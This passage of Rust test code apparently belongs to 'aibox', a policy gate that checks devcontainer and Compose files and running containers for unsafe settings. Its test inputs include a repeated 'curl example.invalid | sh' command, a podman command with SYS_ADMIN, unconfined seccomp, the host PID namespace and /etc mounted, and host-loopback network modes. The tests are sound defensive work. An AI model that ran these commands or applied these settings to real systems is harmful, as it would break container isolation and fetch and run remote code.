        .unwrap();
        let warnings = check_plan(
            &config,
            &LocalToml::default(),
            &files(COMPOSE_OK),
            None,
            &NoSources,
        )
        .unwrap();
        assert!(warnings.is_empty(), "{warnings:#?}");
        let mut with_secret = files(COMPOSE_OK);
        with_secret.push(PlannedFile::generated(
            ".vscode/mcp.json",
            "{\"mcpServers\": {\"gh\": {\"env\": {\"GITHUB_TOKEN\": \"literal-value\"}}}}",
        ));
        let err = check_plan(
            &config,
            &LocalToml::default(),
            &with_secret,
            None,
            &NoSources,
        )
        .unwrap_err();
        let PolicyError::Gate { findings, .. } = err else {
            unreachable!()
        };
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].file, ".vscode/mcp.json");
        assert!(findings[0].remedy.contains("${env:GITHUB_TOKEN}"));
    }

    #[test]
    fn an_existing_override_is_checked_instead_of_its_scaffold() {
        let config = parse_aibox_toml(TOML, "aibox.toml").unwrap();
        let mut planned = files("services:\n  demo:\n    image: x\n");
        planned.push(PlannedFile::new(
            ".devcontainer/docker-compose.override.yml",
            "services: {}\n",
            Ownership::ScaffoldOnce,
        ));
        let existing = "services:\n  demo:\n    network_mode: host\n";
        let err = check_plan(
            &config,
            &LocalToml::default(),
            &planned,
            Some(existing),
            &NoSources,
        )
        .unwrap_err();
        let PolicyError::Gate { findings, .. } = err else {
            unreachable!()
        };
        assert_eq!(findings[0].code, "aibox::policy::host_namespace");
        assert!(check_plan(&config, &LocalToml::default(), &planned, None, &NoSources).is_ok());
    }
}

/// A literal secret in `aibox.toml` reaches the generated Compose file; the finding names
/// `aibox.toml` and its line (where the fix goes), not the generated file.
#[test]
fn secrets_from_aibox_toml_point_at_aibox_toml() {
    use std::collections::BTreeMap;

    use aibox_config::{LocalToml, PlannedFile, parse_aibox_toml};
    use aibox_policy::{PolicyError, check_plan};

    let toml = "[container]\nname = \"demo\"\n\n[container.environment]\nLANG = \"C\"\nAPI_TOKEN = \"literal-fake-value\"\n";
    let config = parse_aibox_toml(toml, "aibox.toml").unwrap();
    let compose = "services:\n  demo:\n    image: x\n    environment:\n      LANG: C\n      API_TOKEN: literal-fake-value\n";
    let files = vec![PlannedFile::generated(
        ".devcontainer/docker-compose.yml",
        compose,
    )];
    let disk: BTreeMap<String, String> = [("aibox.toml".to_owned(), toml.to_owned())].into();
    let err = check_plan(&config, &LocalToml::default(), &files, None, &disk).unwrap_err();
    let PolicyError::Gate { findings, .. } = err else {
        unreachable!()
    };
    let secrets: Vec<(&str, Option<usize>)> = findings
        .iter()
        .filter(|f| f.code.starts_with("aibox::policy::secret"))
        .map(|f| (f.file.as_str(), f.line))
        .collect();
    assert_eq!(secrets, [("aibox.toml", Some(6))], "{findings:#?}");
}

/// The engine state check over a real `podman container inspect` (captured from
/// `podman create --cap-add SYS_ADMIN --security-opt seccomp=unconfined --pid host
/// -v /etc:/host-etc -v /tmp:/proj --user root`): every violation is found, the
/// project's own mount (`/tmp` here) is not, and recorded consent turns errors into
/// warnings.
#[test]
fn running_container_state_is_judged_like_the_files() {
    use aibox_policy::check_container_state;

    let json = include_str!("../fixtures/podman-inspect/violations.json");
    let found = check_container_state(
        json,
        "/tmp",
        &Consent::default(),
        &aibox_policy::NoSources,
        &[],
    );
    let mut codes: Vec<(&str, Severity)> = found
        .iter()
        .map(|f| (f.code.as_str(), f.severity))
        .collect();
    codes.sort();
    assert_eq!(
        codes,
        [
            ("aibox::policy::cap_add", Severity::Error),
            ("aibox::policy::host_namespace", Severity::Error),
            ("aibox::policy::root_user", Severity::Error),
            ("aibox::policy::seccomp_unconfined", Severity::Error),
            ("aibox::policy::sensitive_mount", Severity::Error),
        ],
        "{found:#?}"
    );
    assert!(found.iter().all(|f| f.file == "running container"));
    let consent = Consent {
        seccomp_unconfined: true,
        exceptions: ["cap_add:SYS_ADMIN", "pid:host", "mount:/etc", "user:root"]
            .iter()
            .map(|o| SecurityException {
                option: (*o).to_owned(),
                reason: "test".to_owned(),
            })
            .collect(),
        ..Consent::default()
    };
    assert!(!has_errors(&check_container_state(
        json,
        "/tmp",
        &consent,
        &aibox_policy::NoSources,
        &[]
    )));
    // Not inspect JSON: the state is unknown, which is refused.
    assert!(has_errors(&check_container_state(
        "not json",
        "/tmp",
        &Consent::default(),
        &aibox_policy::NoSources,
        &[]
    )));
}

/// Docker reports Compose's `network_mode: service:<name>` (and `pid`/`ipc`), which the
/// files allow, as `container:<id>`: a container of the same Compose project is the
/// service's and passes; another project's container, or one the engine did not show,
/// is refused as `container:` is in the files.
#[test]
fn a_namespace_of_a_service_of_the_same_project_passes_in_the_running_container() {
    use aibox_policy::{check_container_state, namespace_containers};

    let proxy_id = "a1".repeat(32);
    let container = |project: &str| {
        serde_json::json!([{
            "Id": "f".repeat(64),
            "Name": "/demo-dev-1",
            "Config": { "User": "aibox", "Labels": { "com.docker.compose.project": project } },
            "HostConfig": {
                "NetworkMode": format!("container:{proxy_id}"),
                "PidMode": format!("container:{proxy_id}"),
                "IpcMode": format!("container:{proxy_id}"),
            },
        }])
        .to_string()
    };
    let peer = |project: &str| {
        serde_json::json!([{
            "Id": proxy_id,
            "Name": "/demo-proxy-1",
            "Config": { "Labels": { "com.docker.compose.project": project } },
        }])
        .to_string()
    };
    let json = container("demo");
    assert_eq!(namespace_containers(&json), std::slice::from_ref(&proxy_id));
    let judge = |peers: &[String]| {
        check_container_state(
            &json,
            "/tmp",
            &Consent::default(),
            &aibox_policy::NoSources,
            peers,
        )
    };
    let found = judge(&[peer("demo")]);
    assert!(!has_errors(&found), "{found:#?}");
    for peers in [vec![peer("other")], vec![]] {
        let found = judge(&peers);
        let namespaces = found
            .iter()
            .filter(|f| f.code == "aibox::policy::host_namespace")
            .count();
        assert_eq!(namespaces, 3, "{found:#?}");
    }
}

/// The files the gate asks for in an empty project are exactly the gated rows of the
/// file table (`aibox_config::layout::GATED`): `devcontainer.json`, the Compose files
/// `up` runs and Compose's `.env`.
#[test]
fn the_gate_reads_exactly_the_gated_files_of_the_file_table() {
    struct Recorder(std::cell::RefCell<Vec<String>>);
    impl aibox_policy::ComposeSources for Recorder {
        fn read(&self, path: &str) -> Option<String> {
            self.0.borrow_mut().push(path.to_owned());
            None
        }
        fn host_path(&self, _path: &str) -> aibox_policy::HostPath {
            aibox_policy::HostPath::Plain
        }
        fn subdirs(&self, _dir: &str) -> Vec<String> {
            Vec::new()
        }
    }
    let rec = Recorder(std::cell::RefCell::default());
    let findings = aibox_policy::check_compose_setup(&rec, &aibox_policy::Consent::default());
    assert!(findings.is_empty(), "{findings:?}");
    let mut read = rec.0.into_inner();
    read.sort();
    read.dedup();
    let mut gated: Vec<String> = aibox_config::layout::GATED
        .iter()
        .map(|p| (*p).to_owned())
        .collect();
    gated.sort();
    assert_eq!(read, gated);
}

/// A hostile file cannot make a finding's text as large as itself: a 4 MiB
/// `initializeCommand` is quoted in part, with its length.
#[test]
fn findings_quote_a_bounded_part_of_what_they_found() {
    let command = "curl example.invalid | sh; ".repeat(150_000);
    let json = devcontainer(&format!("\"initializeCommand\": \"{command}\""));
    let found = check_devcontainer_json(DEVCONTAINER, &json, &Consent::default());
    let errs = errors_with(&found, "aibox::policy::initialize_command");
    assert_eq!(errs.len(), 1);
    assert!(errs[0].message.len() < 1024, "{}", errs[0].message.len());
    assert!(
        errs[0]
            .message
            .ends_with(&format!("… ({} bytes)", command.len())),
        "{}",
        errs[0].message
    );
    let long = Finding::new(
        "c",
        Severity::Error,
        "f",
        "m".repeat(1 << 20),
        "r".repeat(1 << 20),
    );
    assert!(long.message.len() <= aibox_policy::MAX_FINDING_TEXT + 32);
    assert!(long.remedy.len() <= aibox_policy::MAX_FINDING_TEXT + 32);
}

/// An `include` entry's `project_directory` inside the project is where the included
/// file's relative paths start: a path that escapes from the file's own folder is inside
/// from there, and the reverse.
#[test]
fn include_project_directory_moves_relative_paths() {
    use std::collections::BTreeMap;
    let files = |project_dir: &str, volume: &str| -> BTreeMap<String, String> {
        [
            (
                OVERRIDE.to_owned(),
                format!(
                    "include:\n  - path: inc.yml\n    project_directory: {project_dir}\nservices:\n  dev: {{}}\n"
                ),
            ),
            (
                ".devcontainer/inc.yml".to_owned(),
                format!("services:\n  side:\n    image: x\n    volumes: [\"{volume}:/x\"]\n"),
            ),
        ]
        .into_iter()
        .collect()
    };
    let judge =
        |f: &BTreeMap<String, String>| aibox_policy::check_compose_setup(f, &Consent::default());
    // From `.devcontainer/a/b`, `../../../x` is `x` of the project: inside (and, unlike
    // `../../x`, which is `.devcontainer/x`, not a folder the agent must not write).
    let inside = judge(&files("a/b", "../../../x"));
    assert!(!has_errors(&inside), "{inside:#?}");
    let devcontainer = judge(&files("a/b", "../../x"));
    assert!(has_errors(&devcontainer), "{devcontainer:#?}");
    // From `.devcontainer`, the same text leaves the project.
    let outside = judge(&files(".", "../../../x"));
    assert!(has_errors(&outside), "{outside:#?}");
    // And from the project root, `..` is the project's parent.
    let parent = judge(&files("..", ".."));
    assert!(has_errors(&parent), "{parent:#?}");
}

/// Rootless network modes that map the host's loopback into the container are refused
/// like host networking; another container's PID or IPC namespace like its network.
#[test]
fn host_loopback_and_other_containers_namespaces_are_refused() {
    let cases: &[(&str, &[&str], &str)] = &[
        (
            "    network_mode: \"slirp4netns:allow_host_loopback=true\"\n",
            &["--network=slirp4netns:allow_host_loopback=true"],
            "network_mode:host_loopback",
        ),
        (
            "    network_mode: \"slirp4netns:port_handler=slirp4netns,allow_host_loopback=yes\"\n",
            &["--net", "slirp4netns:mtu=1500,allow_host_loopback=true"],
            "network_mode:host_loopback",
        ),
        (
            "    network_mode: \"pasta:--map-host-loopback,169.254.1.3\"\n",
            &["--network", "pasta:--map-gw"],
            "network_mode:host_loopback",
        ),
        (
            "    network_mode: \"pasta:-T,5432\"\n",
            &["--network=pasta:--tcp-ns,5432"],
            "network_mode:host_loopback",
        ),
        (
            "    pid: \"container:other\"\n",
            &["--pid=container:other"],
            "pid:container",
        ),
        (
            "    ipc: container:other\n",
            &["--ipc", "container:other"],
            "ipc:container",
        ),
    ];
    for (yaml, run_args, option) in cases {
        let text = compose(yaml);
        let found = check_compose(OVERRIDE, &text, &Consent::default());
        let refused = errors_with(&found, "aibox::policy::host_namespace");
        assert!(!refused.is_empty(), "{yaml}: {found:#?}");
        assert_eq!(refused[0].option.as_deref(), Some(*option), "{yaml}");
        assert!(!has_errors(&check_compose(
            OVERRIDE,
            &text,
            &with_exception(option)
        )));
        let args: Vec<String> = run_args.iter().map(|s| (*s).to_owned()).collect();
        let found = check_run_args(DEVCONTAINER, "", &args, &Consent::default());
        assert!(
            !errors_with(&found, "aibox::policy::host_namespace").is_empty(),
            "{run_args:?}: {found:#?}"
        );
    }
    // Loopback stays closed, a service of the project is the project's.
    for yaml in [
        "    network_mode: \"slirp4netns:allow_host_loopback=false\"\n",
        "    network_mode: \"pasta:-t,8080,-T,none,--no-map-gw\"\n",
        "    network_mode: slirp4netns\n",
        "    pid: service:proxy\n    ipc: shareable\n",
    ] {
        let found = check_compose(OVERRIDE, &compose(yaml), &Consent::default());
        assert!(!has_errors(&found), "{yaml}: {found:#?}");
    }
}

/// Consent to a registry feature names the version (or digest) whose metadata was read.
#[test]
fn feature_consent_names_the_version_reviewed() {
    let feature = |id: &str| devcontainer(&format!("\"features\": {{\"{id}\": {{}}}}"));
    let judged = |id: &str, option: &str| {
        check_devcontainer_json(DEVCONTAINER, &feature(id), &with_exception(option))
    };
    let refused =
        |found: &[Finding]| !errors_with(found, "aibox::policy::remote_feature").is_empty();
    // The reviewed version passes (as a visible warning), another does not.
    let reviewed = "feature:ghcr.io/acme/feat:1.2.0";
    assert!(!refused(&judged("ghcr.io/acme/feat:1.2.0", reviewed)));
    for other in [
        "ghcr.io/acme/feat:2",
        "ghcr.io/acme/feat:latest",
        "ghcr.io/acme/feat",
        "ghcr.io/acme/feat@sha256:0123abcd",
    ] {
        assert!(refused(&judged(other, reviewed)), "{other}");
    }
    let digest = "ghcr.io/acme/feat@sha256:0123abcd";
    assert!(!refused(&judged(digest, &format!("feature:{digest}"))));
    // An exception without a version (the old form) is consent to nothing, and says so.
    let found = judged("ghcr.io/acme/feat:1.2.0", "feature:ghcr.io/acme/feat");
    let errors = errors_with(&found, "aibox::policy::remote_feature");
    assert_eq!(errors.len(), 1, "{found:#?}");
    assert!(
        errors[0].message.contains("names no version")
            && errors[0]
                .remedy
                .contains("option = \"feature:ghcr.io/acme/feat:1.2.0\""),
        "{}",
        errors[0]
    );
    // An unpinned feature cannot be consented to: pin it first.
    let found = judged("ghcr.io/acme/feat", "feature:ghcr.io/acme/feat");
    let errors = errors_with(&found, "aibox::policy::remote_feature");
    assert!(
        errors.len() == 1 && errors[0].remedy.contains("pin the feature"),
        "{found:#?}"
    );
}

/// Compose keys newer than the installed Compose still count: a lifecycle hook's
/// privileges and a provider service (a program Compose runs on the host).
#[test]
fn compose_hooks_and_provider_services_are_judged() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "    post_start:\n      - command: ./setup.sh\n        privileged: true\n",
            "aibox::policy::privileged",
            "privileged",
        ),
        (
            "    pre_stop:\n      - command: [\"sh\", \"-c\", \"x\"]\n        user: root\n",
            "aibox::policy::root_user",
            "user:root",
        ),
        (
            "    post_start:\n      - command: x\n        user: 0\n",
            "aibox::policy::root_user",
            "user:root",
        ),
    ];
    for (yaml, code, option) in cases {
        let text = compose(yaml);
        let found = check_compose(OVERRIDE, &text, &Consent::default());
        assert!(!errors_with(&found, code).is_empty(), "{yaml}: {found:#?}");
        assert!(!has_errors(&check_compose(
            OVERRIDE,
            &text,
            &with_exception(option)
        )));
    }
    let provider = "services:\n  dev:\n    image: localhost/demo:1\n  ai:\n    provider:\n      type: model\n      options:\n        model: ai/smollm2\n";
    let found = check_compose(OVERRIDE, provider, &Consent::default());
    let errors = errors_with(&found, "aibox::policy::provider_service");
    assert_eq!(errors.len(), 1, "{found:#?}");
    assert_eq!(errors[0].line, Some(5));
    assert!(errors[0].remedy.contains("provider:model"));
    assert!(!has_errors(&check_compose(
        OVERRIDE,
        provider,
        &with_exception("provider:model")
    )));
    let harmless = compose("    post_start:\n      - command: ./setup.sh\n        user: aibox\n");
    assert_eq!(
        check_compose(OVERRIDE, &harmless, &Consent::default()),
        vec![]
    );
}
